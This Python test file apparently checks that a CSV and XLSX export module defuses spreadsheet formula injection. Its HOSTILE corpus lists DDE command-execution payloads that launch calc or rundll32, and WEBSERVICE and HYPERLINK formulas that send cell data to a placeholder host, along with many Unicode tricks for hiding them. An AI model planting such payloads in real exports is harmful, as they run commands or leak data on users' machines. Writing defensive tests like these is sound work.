"""No spreadsheet takes a cell of our tables for a formula. LibreOffice is not here to try it: what
it and Excel do with a CSV is told by `cells_somewhere`, as strictly as any of them might."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from datetime import date
from typing import Any
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from look.sheets import as_csv, as_xlsx, safe

HOSTILE = [
    # The plain ones, and what they do.
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=HYPERLINK(\"http://example.org?x=\"&A1,\"点这里\")", "=IMPORTXML(\"http://example.org\",\"//a\")",
    "=WEBSERVICE(\"http://example.org/\"&A2)", "=MSEXCEL|'\\..\\..\\calc.exe'!''", "=rundll32|'x'!A",
    "=1+1\";=1+1", "=", "-", "+", "@", "==", "=-1", "+-1",
    # Full width, and signs that look or fold alike.
    "＝1+1", "＋86 138", "－5", "＠某人", "﹦1", "﹣5", "﹢5", "﹫x", "−5", "⁺5", "₋5", "⁼5", "₌5", "﬩5",
    # Behind what nobody sees.
    " =1+1", "   +1", "\u3000=1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\u200e=1+1",
    "\u2060=1+1", "\u00ad=1+1", "\u202e=1+1", "\u2066=1+1", "\u180e=1+1", "\u2003=1+1",
    "\x00=1+1", "\x1f=1+1", "\x7f=1+1", "\x1b=1+1", "\u3164=1+1", "\ufe0f=1+1", "\ufeff \u200b=1",
    # Tabs and line ends.
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\tx", "\rx", "\nx", "x\t=1+1", "x\n=1+1",
    "x\r\n=1+1", "x\r=1+1", "x\u2028=1+1", "x\x85=1+1", "x\v=1+1", "x\f=1+1",
    # Quotes, and other separators than ours.
    "\"=1+1", "'=1+1", "\"\"=1+1", "x\"\n\"=1+1", "x;=1+1", "x; =1+1", "x;\"=1+1\"", "\";=1+1",
    "x;＝1+1", "x；=1+1", "x|=1+1", "x|+1", "a,=1+1", "a\",\"=1+1", "a\",=1+1,\"", "x;\n;=1+1;",
    "半夜很吵\n-楼上装修", "电话：\n+86 10 0000 1200", "x;-cmd|'/C calc'!A0",
    "=1+1" * 500, "\ud800=1", "\n" * 300 + "=1",
]
HARMLESS = [
    "", "半夜很吵", "府学胡同 1 号", "010-0000 1200", "2026-11-23", "a=b", "x + y", "a@b.example",
    "1-3 号楼", "他说：“吵”", "a,b", "a;b", "a|b", "“=1”号", "第一行\n第二行", "N/A", "#REF!", "😀",
]
SIGNS = set("=+-@")


def unseen(character: str) -> bool:
    return unicodedata.category(character)[0] in "CZ" or character in "\u3164\u115f\u1160\uffa0\ufe0f"


def formula(cell: str) -> bool:
    """Whether anything that people use might take it for one."""
    while cell and (unseen(cell[0]) or cell[0] in "\"'\u034f") and cell[0] != "'":
        cell = cell[1:]
    return bool(cell) and unicodedata.normalize("NFKC", cell[0])[:1] in SIGNS | {"−"}


def cells_somewhere(body: bytes) -> set[str]:
    """The cells that a reader might find that splits at any sign and heeds no quotes, or that does
    it as it should."""
    text = body.decode("utf-8-sig")
    found = {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
    for other in (";", "\t", "|"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=other):
            found.update(row)
    for cell in list(found):
        found.update(re.split("[;；\t\r\n\v\f\x1c-\x1e\x85\u2028\u2029|]", cell))
    return found


def test_the_corpus_is_large() -> None:
    assert len(HOSTILE) == len(set(HOSTILE)) >= 60


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_no_hostile_cell_is_a_formula_in_a_csv(text: str) -> None:
    for row in ((text,), ("府学", text), (1, text, text), (text, "x", 2)):
        body = as_csv(["a", "b", "c"][: len(row)], [row])
        assert [cell for cell in cells_somewhere(body) if formula(cell)] == []


@given(st.text(st.sampled_from("=+-@＝－\t\r\n ;；|,\"'\u200b\ufeffax1\x00")))
def test_no_text_at_all_is_a_formula_in_a_csv(text: str) -> None:
    assert [cell for cell in cells_somewhere(as_csv(["a", "b"], [("x", text)])) if formula(cell)] == []


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_was(text: str) -> None:
    assert safe(text) == text
    [_, [cell]] = csv.reader(io.StringIO(as_csv(["a"], [[text]]).decode("utf-8-sig"), newline=""))
    assert cell == text


def test_the_check_itself_finds_a_formula() -> None:
    assert all(map(formula, ("=1", " +1", "\ufeff-1", "＝1", "\"=1")))
    assert not any(map(formula, ("'=1", "x=1", "", "1")))
    assert any(map(formula, cells_somewhere("x,\"a;=1\"\r\n".encode("utf-8-sig"))))


def read(body: bytes) -> Any:
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    return sheet


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_no_hostile_cell_is_a_formula_in_an_xlsx(text: str) -> None:
    body = as_xlsx("噪声", [text], [[text], ["x"]])
    sheet = read(body)
    for cell in (sheet["A1"], sheet["A2"]):
        assert cell.data_type == "s"
    if any(sign in "=+-@" for sign in text[:1]):
        assert sheet["A2"].value == text
        assert sheet["A2"].quotePrefix
    with ZipFile(io.BytesIO(body)) as whole:
        assert b"<f>" not in whole.read("xl/worksheets/sheet1.xml")
        assert not [name for name in whole.namelist() if "external" in name.lower()]


def test_in_an_xlsx_a_text_stays_as_it_was_written() -> None:
    sheet = read(as_xlsx("x", ["a"], [[text] for text in HARMLESS]))
    assert [cell.value or "" for cell in sheet["A"][1:]] == HARMLESS
    assert {cell.data_type for cell in sheet["A"][2:]} == {"s"}


def test_numbers_stay_numbers_and_dates_are_written_as_everywhere() -> None:
    row = (-5, 2.5, date(2026, 11, 1), None, "0012")
    sheet = read(as_xlsx("x", list("abcde"), [row]))
    assert [cell.value for cell in sheet[2]] == [-5, 2.5, "2026-11-01", None, "0012"]
    assert [cell.data_type for cell in sheet[2]] == ["n", "n", "s", "n", "s"]
    assert as_csv(list("abcde"), [row]).decode("utf-8-sig") == (
        '"a","b","c","d","e"\r\n-5,2.5,"2026-11-01","","0012"\r\n')


def test_a_csv_begins_with_the_mark_by_which_spreadsheets_know_utf_8() -> None:
    assert as_csv(["街"], [["府学胡同"]]).startswith(b"\xef\xbb\xbf")


def test_what_neither_file_can_hold_is_replaced_and_the_longest_cell_is_cut() -> None:
    sheet = read(as_xlsx("a/b[c]" * 20, ["\x00\ud800"], [["长" * 40_000]]))
    assert sheet["A1"].value == "��" and len(sheet["A2"].value) == 32_767
    assert len(sheet.title) <= 31
    assert as_csv(["\x00\ud800\uffff"], []).decode("utf-8-sig") == '"���"\r\n'
